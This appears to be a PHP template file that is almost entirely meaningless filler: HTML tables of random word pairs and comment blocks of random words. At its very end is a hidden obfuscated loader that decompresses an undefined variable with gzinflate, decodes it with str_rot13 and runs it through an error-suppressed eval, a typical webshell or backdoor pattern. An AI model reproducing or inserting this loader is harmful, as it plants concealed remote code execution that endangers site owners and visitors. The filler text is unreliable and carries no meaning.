<tr class="year"><td>style 7</td><td>total panel</td></tr>
<tr class="status"><td>index 8</td><td>filter limit</td></tr>
<tr class="list"><td>table 9</td><td>column option</td></tr>
<tr class="field"><td>column 10</td><td>render page</td></tr>
<tr class="page"><td>widget 11</td><td>page month</td></tr>
<tr class="format"><td>offset 12</td><td>render status</td></tr>
<tr class="panel"><td>option 13</td><td>index import</td></tr>
<tr class="entry"><td>page 14</td><td>total entry</td></tr>
<tr class="client"><td>panel 15</td><td>import locale</td></tr>
<tr class="column"><td>amount 16</td><td>footer column</td></tr>
<tr class="locale"><td>widget 17</td><td>sort locale</td></tr>
<tr class="header"><td>page 18</td><td>offset field</td></tr>
<tr class="panel"><td>offset 19</td><td>year table</td></tr>
<tr class="entry"><td>table 20</td><td>label column</td></tr>
<tr class="render"><td>value 21</td><td>sort table</td></tr>
<tr class="title"><td>total 22</td><td>filter month</td></tr>
<tr class="item"><td>label 23</td><td>offset field</td></tr>
<tr class="item"><td>table 24</td><td>import entry</td></tr>
<tr class="field"><td>field 25</td><td>widget status</td></tr>
<tr class="filter"><td>cache 26</td><td>offset client</td></tr>
<tr class="year"><td>amount 27</td><td>order offset</td></tr>
<tr class="style"><td>style 28</td><td>import amount</td></tr>
<tr class="setting"><td>filter 29</td><td>value order</td></tr>
</table>
<?php
/*
 * view footer filter widget month column month option panel title import title
 * value title column option year render export report limit index panel order
 * export item setting entry column value field label amount list page record
 * import import total theme view filter sort footer table cache sort field
 * header export index setting item setting render field theme item index view
 * record value table field record status total amount year header panel title
 * offset order month order format render entry status setting report item offset
 * client sort total option column cache entry filter page column view order
 * amount filter footer export item cache item cache format format locale setting
 * item option report order render total cache offset year render header offset
 * limit record value month entry render footer column style item year status
 * export theme field total limit limit locale report index page item sort
 * export limit item table format record theme field amount status page theme
 * report field field item label table theme month filter value page style
 * value index filter style amount style label limit render page view render
 * value filter table page column widget limit year footer setting report export
 * filter import format title limit index locale amount view item filter panel
 * widget total index sort panel field order sort sort entry index index
 * table import index entry style locale page option entry title locale view
 * panel filter widget year amount value footer option sort export limit total
 * list page field amount value sort export list client locale cache label
 * import table locale export column field report format entry value label cache
 * locale value sort month render amount client header title entry table order
 * footer item locale column list view view limit offset setting option total
 * month report index page list sort style option order item render filter
 */
?>
<table>
<tr class="style"><td>item 0</td><td>option entry</td></tr>
<tr class="status"><td>table 1</td><td>field amount</td></tr>
<tr class="header"><td>order 2</td><td>style view</td></tr>
<tr class="view"><td>theme 3</td><td>offset footer</td></tr>
<tr class="title"><td>field 4</td><td>limit column</td></tr>
<tr class="render"><td>option 5</td><td>render style</td></tr>
<tr class="page"><td>value 6</td><td>entry cache</td></tr>
<tr class="render"><td>year 7</td><td>label format</td></tr>
<tr class="style"><td>status 8</td><td>footer report</td></tr>
<tr class="style"><td>cache 9</td><td>panel format</td></tr>
<tr class="entry"><td>amount 10</td><td>format total</td></tr>
<tr class="import"><td>locale 11</td><td>style index</td></tr>
<tr class="month"><td>column 12</td><td>style panel</td></tr>
<tr class="export"><td>locale 13</td><td>client view</td></tr>
<tr class="value"><td>field 14</td><td>option widget</td></tr>
<tr class="import"><td>sort 15</td><td>title column</td></tr>
<tr class="option"><td>status 16</td><td>table footer</td></tr>
<tr class="option"><td>report 17</td><td>format status</td></tr>
<tr class="order"><td>offset 18</td><td>locale widget</td></tr>
<tr class="order"><td>style 19</td><td>entry export</td></tr>
<tr class="item"><td>sort 20</td><td>title option</td></tr>
<tr class="label"><td>field 21</td><td>sort entry</td></tr>
<tr class="title"><td>status 22</td><td>amount entry</td></tr>
<tr class="header"><td>style 23</td><td>status format</td></tr>
<tr class="value"><td>export 24</td><td>export title</td></tr>
<tr class="panel"><td>report 25</td><td>month cache</td></tr>
<tr class="report"><td>import 26</td><td>header render</td></tr>
<tr class="column"><td>label 27</td><td>view locale</td></tr>
<tr class="setting"><td>value 28</td><td>item month</td></tr>
<tr class="widget"><td>export 29</td><td>page render</td></tr>
</table>
<?php
/*
 * cache format amount year client report panel status style report offset column
 * format render client header item import header item order field total title
 * value cache title entry record import report report value field panel cache
 * amount limit record setting format client option year field table title export
 * entry offset index status import item client label item amount export locale
 * month style view export month status total offset client format header entry
 * entry locale field export entry theme month title month item export header
 * month view import report label column page cache title table title entry
 * footer sort value year year client item page entry field record title
 * option label style table import limit year column value locale title render
 * option year title theme table locale sort status record header render index
 * value widget title panel index theme report setting render record client order
 * format year filter render entry theme render export locale title header index
 * table cache year sort year field value footer value month field cache
 * offset month index amount render format item month client page panel limit
 * locale total page status theme month table format panel total option entry
 * value locale footer report import import item style field panel status list
 * filter entry offset style setting entry report amount report item view index
 * cache item month widget limit item order locale total footer render entry
 * column style import record header locale panel list option field sort filter
 * format page column panel title total column record status view title page
 * footer option import client title sort amount table page entry view widget
 * format export sort status status locale column panel header panel option record
 * export sort header year page filter column format theme order offset list
 * value status page import amount widget amount page panel limit widget header
 */
?>
<table>
<tr class="offset"><td>cache 0</td><td>table table</td></tr>
<tr class="locale"><td>import 1</td><td>month record</td></tr>
<tr class="format"><td>locale 2</td><td>value footer</td></tr>
<tr class="year"><td>theme 3</td><td>table style</td></tr>
<tr class="filter"><td>page 4</td><td>record value</td></tr>
<tr class="offset"><td>style 5</td><td>status total</td></tr>
<tr class="cache"><td>header 6</td><td>import status</td></tr>
<tr class="footer"><td>amount 7</td><td>label title</td></tr>
<tr class="amount"><td>format 8</td><td>setting import</td></tr>
<tr class="view"><td>export 9</td><td>filter panel</td></tr>
<tr class="sort"><td>filter 10</td><td>render field</td></tr>
<tr class="option"><td>table 11</td><td>entry month</td></tr>
<tr class="export"><td>page 12</td><td>cache year</td></tr>
<tr class="import"><td>footer 13</td><td>filter format</td></tr>
<tr class="status"><td>column 14</td><td>theme theme</td></tr>
<tr class="footer"><td>footer 15</td><td>header order</td></tr>
<tr class="sort"><td>import 16</td><td>page label</td></tr>
<tr class="widget"><td>year 17</td><td>total client</td></tr>
<tr class="render"><td>title 18</td><td>item total</td></tr>
<tr class="import"><td>index 19</td><td>record year</td></tr>
<tr class="amount"><td>import 20</td><td>total order</td></tr>
<tr class="offset"><td>footer 21</td><td>value report</td></tr>
<tr class="month"><td>import 22</td><td>month year</td></tr>
<tr class="total"><td>cache 23</td><td>client amount</td></tr>
<tr class="total"><td>filter 24</td><td>setting footer</td></tr>
<tr class="page"><td>item 25</td><td>title panel</td></tr>
<tr class="month"><td>label 26</td><td>label index</td></tr>
<tr class="list"><td>render 27</td><td>panel record</td></tr>
<tr class="item"><td>month 28</td><td>export value</td></tr>
<tr class="title"><td>render 29</td><td>footer amount</td></tr>
</table>
<?php
/*
 * style status header field panel widget client page value report cache render
 * index sort filter entry offset limit status title panel label report panel
 * sort filter column limit month import widget month sort style list amount
 * entry render render record view cache footer import header index client view
 * setting order total widget limit month order index list footer view limit
 * export format header amount list cache amount record render limit list field
 * record render filter record title amount value field order total title amount
 * widget record field filter year page table view panel list label panel
 * page export item widget option offset record item item style report amount
 * import field limit column filter panel import record view field import amount
 * page filter list widget year record label render widget sort footer import
 * index entry field year footer view header offset list label report order
 * title import option field month entry import title table offset title report
 * year month locale option panel entry format render render sort year format
 * locale import entry index format style index filter report value header item
 * index limit table format locale month render total setting sort option style
 * widget filter view style view item setting entry record item title title
 * export index page entry report widget theme order list report locale total
 * render table widget entry option order widget table field widget limit sort
 * title value field label setting index record filter setting sort offset option
 * status panel view render offset render client header setting amount field import
 * offset footer filter locale client field offset record style amount column cache
 * header total render filter widget table render locale page order order column
 * order widget format title import render total report format field value index
 * label import panel locale export header option export column report client render
 */
?>
<table>
<tr class="setting"><td>footer 0</td><td>amount cache</td></tr>
<tr class="import"><td>offset 1</td><td>render column</td></tr>
<tr class="value"><td>entry 2</td><td>cache field</td></tr>
<tr class="record"><td>format 3</td><td>panel view</td></tr>
<tr class="label"><td>style 4</td><td>style entry</td></tr>
<tr class="status"><td>year 5</td><td>table format</td></tr>
<tr class="report"><td>filter 6</td><td>filter label</td></tr>
<tr class="offset"><td>cache 7</td><td>import header</td></tr>
<tr class="year"><td>offset 8</td><td>setting item</td></tr>
<tr class="title"><td>index 9</td><td>item export</td></tr>
<tr class="format"><td>value 10</td><td>view column</td></tr>
<tr class="list"><td>style 11</td><td>sort month</td></tr>
<tr class="import"><td>setting 12</td><td>setting page</td></tr>
<tr class="record"><td>label 13</td><td>format label</td></tr>
<tr class="list"><td>amount 14</td><td>theme footer</td></tr>
<tr class="locale"><td>label 15</td><td>limit offset</td></tr>
<tr class="view"><td>header 16</td><td>page footer</td></tr>
<tr class="page"><td>record 17</td><td>import order</td></tr>
<tr class="render"><td>year 18</td><td>locale format</td></tr>
<tr class="label"><td>panel 19</td><td>sort list</td></tr>
<tr class="widget"><td>amount 20</td><td>import header</td></tr>
<tr class="entry"><td>header 21</td><td>offset locale</td></tr>
<tr class="export"><td>footer 22</td><td>sort record</td></tr>
<tr class="widget"><td>filter 23</td><td>total option</td></tr>
<tr class="title"><td>amount 24</td><td>style filter</td></tr>
<tr class="cache"><td>item 25</td><td>import option</td></tr>
<tr class="limit"><td>status 26</td><td>offset format</td></tr>
<tr class="item"><td>cache 27</td><td>header index</td></tr>
<tr class="label"><td>client 28</td><td>locale style</td></tr>
<tr class="format"><td>report 29</td><td>format panel</td></tr>
</table>
<?php
/*
 * filter filter report field total entry order year theme value limit theme
 * setting render entry status client column header setting item sort export setting
 * style entry year panel field entry item label title month page item
 * panel report month sort client widget import amount status order import title
 * page entry index year setting export theme record order table order footer
 * locale import view entry format amount format limit header export table setting
 * index title year table column import label value item page option locale
 * label export value column column render option index value page record total
 * field setting limit entry cache option import theme entry client option limit
 * sort header page option entry view report locale cache year title value
 * client setting label widget locale order entry view field client header page
 * filter filter render footer view export total month footer footer record footer
 * list locale page format sort title table title amount offset year field
 * record view report limit offset report total cache setting import column column
 * item item order status limit month panel page month year export client
 * export locale sort setting page amount style index list sort label label
 * option total record footer footer render offset setting item page style widget
 * table sort title order filter theme footer month theme value entry entry
 * record limit field status item limit render client offset amount footer header
 * year setting entry month option amount client table entry record report status
 * setting list theme label list item total year export theme format locale
 * entry offset title label format page format index sort field year limit
 * total table table import render limit total widget setting month report status
 * cache import amount setting option locale entry table export total style page
 * label import page style page month locale total limit month render footer
 */
?>
<table>
<tr class="table"><td>sort 0</td><td>entry import</td></tr>
<tr class="title"><td>status 1</td><td>year table</td></tr>
<tr class="page"><td>title 2</td><td>report record</td></tr>
<tr class="year"><td>render 3</td><td>entry export</td></tr>
<tr class="title"><td>index 4</td><td>column locale</td></tr>
<tr class="render"><td>view 5</td><td>footer cache</td></tr>
<tr class="widget"><td>format 6</td><td>sort limit</td></tr>
<tr class="list"><td>client 7</td><td>export title</td></tr>
<tr class="title"><td>footer 8</td><td>value export</td></tr>
<tr class="page"><td>export 9</td><td>import order</td></tr>
<tr class="table"><td>field 10</td><td>import render</td></tr>
<tr class="value"><td>footer 11</td><td>record total</td></tr>
<tr class="status"><td>month 12</td><td>value widget</td></tr>
<tr class="locale"><td>style 13</td><td>field table</td></tr>
<tr class="footer"><td>header 14</td><td>filter view</td></tr>
<tr class="theme"><td>status 15</td><td>export filter</td></tr>
<tr class="entry"><td>footer 16</td><td>report panel</td></tr>
<tr class="column"><td>month 17</td><td>list year</td></tr>
<tr class="report"><td>list 18</td><td>list panel</td></tr>
<tr class="option"><td>import 19</td><td>value offset</td></tr>
<tr class="format"><td>import 20</td><td>label amount</td></tr>
<tr class="item"><td>title 21</td><td>item style</td></tr>
<tr class="field"><td>page 22</td><td>label render</td></tr>
<tr class="view"><td>order 23</td><td>month theme</td></tr>
<tr class="record"><td>month 24</td><td>table page</td></tr>
<tr class="report"><td>format 25</td><td>amount amount</td></tr>
<tr class="record"><td>view 26</td><td>offset record</td></tr>
<tr class="setting"><td>format 27</td><td>client page</td></tr>
<tr class="order"><td>sort 28</td><td>locale header</td></tr>
<tr class="index"><td>footer 29</td><td>render panel</td></tr>
</table>
<?php
/*
 * offset order footer view item render month amount entry index offset value
 * setting header status amount render cache offset import value amount limit report
 * field cache item render total sort render option limit sort amount style
 * list import import order label sort sort view table cache field item
 * column record setting column table field header page column import column footer
 * total column header sort label entry style import page list table panel
 * render offset locale order value format locale amount header title option report
 * order format status import widget import setting list format amount view record
 * footer header field cache limit render status footer title item list table
 * list locale footer total report page index cache year label footer export
 * filter filter theme column table limit entry style cache import year record
 * limit format widget label view header filter widget offset footer entry index
 * year title column month value list import status entry page year amount
 * setting year total page option title theme render render record list total
 * import item render report filter list record render locale locale locale option
 * item label locale sort field filter limit index value option setting setting
 * list amount record column offset label status table header list footer order
 * format header style label setting index export status offset field total field
 * export style field filter sort client export header client amount sort filter
 * page table import title year import index filter item format setting locale
 * amount total footer record value list column entry report style locale order
 * setting status export panel sort theme column footer table widget entry theme
 * view setting cache table widget entry option list report entry column sort
 * title setting record status field column limit total value setting order order
 * item limit import item header field header page export footer render label
 */
?>
<table>
<tr class="import"><td>order 0</td><td>render view</td></tr>
<tr class="amount"><td>amount 1</td><td>header widget</td></tr>
<tr class="page"><td>list 2</td><td>theme import</td></tr>
<tr class="table"><td>theme 3</td><td>header year</td></tr>
<tr class="locale"><td>filter 4</td><td>month theme</td></tr>
<tr class="panel"><td>theme 5</td><td>item view</td></tr>
<tr class="format"><td>option 6</td><td>import theme</td></tr>
<tr class="locale"><td>offset 7</td><td>offset locale</td></tr>
<tr class="sort"><td>page 8</td><td>index year</td></tr>
<tr class="sort"><td>index 9</td><td>setting value</td></tr>
<tr class="index"><td>footer 10</td><td>format record</td></tr>
<tr class="locale"><td>page 11</td><td>field year</td></tr>
<tr class="render"><td>option 12</td><td>status import</td></tr>
<tr class="view"><td>status 13</td><td>panel setting</td></tr>
<tr class="format"><td>field 14</td><td>theme title</td></tr>
<tr class="locale"><td>entry 15</td><td>option cache</td></tr>
<tr class="setting"><td>limit 16</td><td>index setting</td></tr>
<tr class="style"><td>report 17</td><td>index export</td></tr>
<tr class="client"><td>offset 18</td><td>cache month</td></tr>
<tr class="label"><td>filter 19</td><td>header theme</td></tr>
<tr class="style"><td>entry 20</td><td>year total</td></tr>
<tr class="page"><td>filter 21</td><td>table sort</td></tr>
<tr class="cache"><td>table 22</td><td>report index</td></tr>
<tr class="client"><td>amount 23</td><td>view report</td></tr>
<tr class="entry"><td>title 24</td><td>filter locale</td></tr>
<tr class="widget"><td>table 25</td><td>index client</td></tr>
<tr class="filter"><td>index 26</td><td>locale title</td></tr>
<tr class="entry"><td>item 27</td><td>value list</td></tr>
<tr class="setting"><td>month 28</td><td>label title</td></tr>
<tr class="status"><td>page 29</td><td>limit client</td></tr>
</table>
<?php
/*
 * column index header table sort total page view widget widget index column
 * list format export field order export year widget header style table view
 * offset render widget widget export amount year format sort panel locale locale
 * import cache item setting table list option footer label style value import
 * record amount panel field item header export format offset filter setting record
 * format item value widget cache column format year order value offset header
 * export sort setting report offset title header amount entry locale limit index
 * table setting offset panel month cache index title header value cache month
 * view report label month view client field index record export year value
 * list label index value header value option render filter item setting page
 * theme header cache header value entry table title report month client value
 * sort total widget export table entry list page render column label widget
 * render field field index header record page list option amount header field
 * field offset page field widget title theme month header setting format amount
 * index render column style import column setting filter client offset filter footer
 * value locale item item month footer index year option panel format sort
 * widget label filter status value filter order limit month label month view
 * label year locale value client view page header panel entry format view
 * view view list list panel widget amount client panel header filter footer
 * report amount amount theme offset year label label title total view locale
 * entry field style limit list client footer field column locale widget total
 * status year setting value month locale title month record total locale offset
 * widget field field render item panel locale order field option widget import
 * footer panel total offset column total setting order cache style status locale
 * order format render format table value title import render panel option amount
 */
?>
<table>
<tr class="sort"><td>offset 0</td><td>render render</td></tr>
<tr class="amount"><td>export 1</td><td>report filter</td></tr>
<tr class="filter"><td>page 2</td><td>offset value</td></tr>
<tr class="sort"><td>index 3</td><td>cache entry</td></tr>
<tr class="locale"><td>order 4</td><td>client table</td></tr>
<tr class="entry"><td>table 5</td><td>view render</td></tr>
<tr class="label"><td>cache 6</td><td>view widget</td></tr>
<tr class="render"><td>format 7</td><td>filter title</td></tr>
<tr class="locale"><td>report 8</td><td>style field</td></tr>
<tr class="panel"><td>column 9</td><td>client footer</td></tr>
<tr class="amount"><td>month 10</td><td>index report</td></tr>
<tr class="status"><td>cache 11</td><td>year record</td></tr>
<tr class="limit"><td>option 12</td><td>amount item</td></tr>
<tr class="style"><td>month 13</td><td>offset view</td></tr>
<tr class="filter"><td>index 14</td><td>theme total</td></tr>
<tr class="table"><td>setting 15</td><td>table list</td></tr>
<tr class="page"><td>total 16</td><td>option report</td></tr>
<tr class="year"><td>entry 17</td><td>field import</td></tr>
<tr class="footer"><td>view 18</td><td>import filter</td></tr>
<tr class="month"><td>value 19</td><td>table table</td></tr>
<tr class="theme"><td>sort 20</td><td>footer field</td></tr>
<tr class="index"><td>label 21</td><td>column option</td></tr>
<tr class="value"><td>status 22</td><td>offset header</td></tr>
<tr class="widget"><td>record 23</td><td>limit import</td></tr>
<tr class="label"><td>header 24</td><td>sort page</td></tr>
<tr class="table"><td>export 25</td><td>header offset</td></tr>
<tr class="label"><td>filter 26</td><td>report import</td></tr>
<tr class="total"><td>panel 27</td><td>style cache</td></tr>
<tr class="style"><td>index 28</td><td>header order</td></tr>
<tr class="footer"><td>header 29</td><td>panel render</td></tr>
</table>
<?php
/*
 * limit entry cache setting filter sort record year cache widget order panel
 * client page render total status widget order locale theme entry widget status
 * offset index view render sort list index limit limit table index page
 * export label year panel amount amount limit column widget format sort style
 * cache total report label cache amount footer option record footer item entry
 * filter report order cache cache locale header widget offset month total entry
 * order order index sort import list limit panel order item status theme
 * panel status column sort render format header month label locale field title
 * option offset title record view setting table view import total offset record
 * option report theme year cache list order column value format page month
 * format item report label label column total total total cache table header
 * column widget format entry limit theme title header view table widget option
 * sort export amount limit filter header limit report offset year footer index
 * month record footer export panel panel header index render index sort status
 * cache table offset footer column setting render limit list theme widget limit
 * report label field field filter cache index value style item panel view
 * setting sort option cache order sort value status style theme cache column
 * locale value view render render header footer locale setting widget column order
 * table view widget panel record offset option year style view page report
 * client item month style panel column footer footer option widget index style
 * render footer render field footer label format column page footer title cache
 * locale setting status panel amount column export format amount option table locale
 * value locale panel report label export record month total amount order field
 * item header footer format page table index render render render filter total
 * entry index theme offset item cache footer list footer label render report
 */
?>
<table>
<tr class="client"><td>list 0</td><td>field sort</td></tr>
<tr class="sort"><td>export 1</td><td>footer setting</td></tr>
<tr class="header"><td>client 2</td><td>record offset</td></tr>
<tr class="status"><td>import 3</td><td>style option</td></tr>
<tr class="column"><td>value 4</td><td>cache item</td></tr>
<tr class="table"><td>theme 5</td><td>sort field</td></tr>
<tr class="cache"><td>value 6</td><td>index setting</td></tr>
<tr class="filter"><td>item 7</td><td>style cache</td></tr>
<tr class="total"><td>record 8</td><td>index total</td></tr>
<tr class="format"><td>order 9</td><td>field label</td></tr>
<tr class="panel"><td>sort 10</td><td>style list</td></tr>
<tr class="order"><td>locale 11</td><td>render cache</td></tr>
<tr class="sort"><td>column 12</td><td>item footer</td></tr>
<tr class="filter"><td>record 13</td><td>month item</td></tr>
<tr class="list"><td>theme 14</td><td>month export</td></tr>
<tr class="label"><td>table 15</td><td>format locale</td></tr>
<tr class="order"><td>list 16</td><td>record item</td></tr>
<tr class="cache"><td>title 17</td><td>total import</td></tr>
<tr class="list"><td>view 18</td><td>locale entry</td></tr>
<tr class="render"><td>item 19</td><td>widget item</td></tr>
<tr class="table"><td>theme 20</td><td>import render</td></tr>
<tr class="sort"><td>label 21</td><td>table setting</td></tr>
<tr class="status"><td>list 22</td><td>header label</td></tr>
<tr class="list"><td>total 23</td><td>order view</td></tr>
<tr class="value"><td>value 24</td><td>widget option</td></tr>
<tr class="record"><td>limit 25</td><td>widget record</td></tr>
<tr class="month"><td>list 26</td><td>widget locale</td></tr>
<tr class="import"><td>export 27</td><td>entry page</td></tr>
<tr class="cache"><td>year 28</td><td>year column</td></tr>
<tr class="record"><td>item 29</td><td>record filter</td></tr>
</table>
<?php
/*
 * page label cache order header style index sort entry amount option column
 * client report page month render list offset table theme record render style
 * sort sort field theme footer format total import field import format field
 * filter option table format style format widget setting record total export list
 * label render import option format table table style sort month client locale
 * label filter client theme offset page header list amount order footer render
 * field style header offset item style widget year title limit report order
 * amount index footer page order month month client footer entry setting value
 * item page client index column record item view view year total list
 * theme item column amount year setting panel style export index limit index
 * import column order item table header limit client export status report footer
 * field theme index record setting year record locale theme offset month year
 * list report year report theme import option locale setting entry record option
 * index cache index record cache index list view footer total year status
 * panel index month limit option table order render field format report cache
 * view column footer client table column status page column report export widget
 * widget status value index cache entry locale title option filter option amount
 * import render year client export sort order style list report table year
 * locale render footer report total theme locale field list sort entry title
 * item view label view page page limit panel index client report report
 * column setting order item status title locale list limit order order widget
 * cache cache table report value import label page column label entry record
 * order view page filter value index table limit style client total option
 * theme list theme offset option page field entry report offset value sort
 * limit format status label locale import field amount theme list import status
 */
?>
<table>
<tr class="column"><td>column 0</td><td>style list</td></tr>
<tr class="render"><td>import 1</td><td>format widget</td></tr>
<tr class="table"><td>field 2</td><td>field status</td></tr>
<tr class="report"><td>list 3</td><td>limit export</td></tr>
<tr class="total"><td>client 4</td><td>setting page</td></tr>
<tr class="total"><td>report 5</td><td>column month</td></tr>
<tr class="panel"><td>footer 6</td><td>month title</td></tr>
<tr class="header"><td>option 7</td><td>locale column</td></tr>
<tr class="year"><td>limit 8</td><td>widget widget</td></tr>
<tr class="format"><td>total 9</td><td>record value</td></tr>
<tr class="locale"><td>amount 10</td><td>footer view</td></tr>
<tr class="column"><td>setting 11</td><td>item list</td></tr>
<tr class="locale"><td>setting 12</td><td>widget index</td></tr>
<tr class="widget"><td>list 13</td><td>entry offset</td></tr>
<tr class="view"><td>style 14</td><td>render view</td></tr>
<tr class="theme"><td>export 15</td><td>limit report</td></tr>
<tr class="index"><td>footer 16</td><td>year status</td></tr>
<tr class="header"><td>client 17</td><td>theme filter</td></tr>
<tr class="header"><td>item 18</td><td>label order</td></tr>
<tr class="widget"><td>view 19</td><td>widget index</td></tr>
<tr class="offset"><td>option 20</td><td>option page</td></tr>
<tr class="title"><td>filter 21</td><td>export index</td></tr>
<tr class="report"><td>panel 22</td><td>field format</td></tr>
<tr class="footer"><td>item 23</td><td>year limit</td></tr>
<tr class="value"><td>amount 24</td><td>item header</td></tr>
<tr class="year"><td>report 25</td><td>footer import</td></tr>
<tr class="index"><td>order 26</td><td>entry format</td></tr>
<tr class="header"><td>locale 27</td><td>column item</td></tr>
<tr class="report"><td>year 28</td><td>style label</td></tr>
<tr class="order"><td>option 29</td><td>import view</td></tr>
</table>
<?php
/*
 * locale client amount header offset footer header field status status export panel
 * sort format amount header cache header year year render month label filter
 * field offset page limit month report export field widget table record field
 * label setting footer render format order view theme entry status locale field
 * table locale render view item footer label style render value theme value
 * field page index locale year report amount locale index page value option
 * export column item list amount order label list render status amount style
 * entry header render year record setting sort list report entry report limit
 * filter filter order filter value setting limit limit view status value column
 * total month item offset client view panel sort client sort panel header
 * column format amount option column page report item value sort footer value
 * locale style filter export widget value table format limit theme amount item
 * order locale month index title header table total style amount offset format
 * order entry sort footer field report import view sort filter export table
 * label amount filter panel status panel field amount year field field status
 * report table total page widget status footer page client limit total setting
 * index theme list theme label format list item theme cache footer status
 * setting setting panel entry export amount theme title filter export field month
 * status panel export label total column table report title view field title
 * style theme filter locale order filter import client footer option theme header
 * column list table option theme offset entry year footer entry limit limit
 * theme label month title theme sort theme label value style limit status
 * option amount format index record title locale table cache total record style
 * sort panel value style panel column label cache import value locale total
 * import locale field amount field column label year client client amount index
 */
?>
<?php
$z = gzinflate($k);
@eval(str_rot13($z));
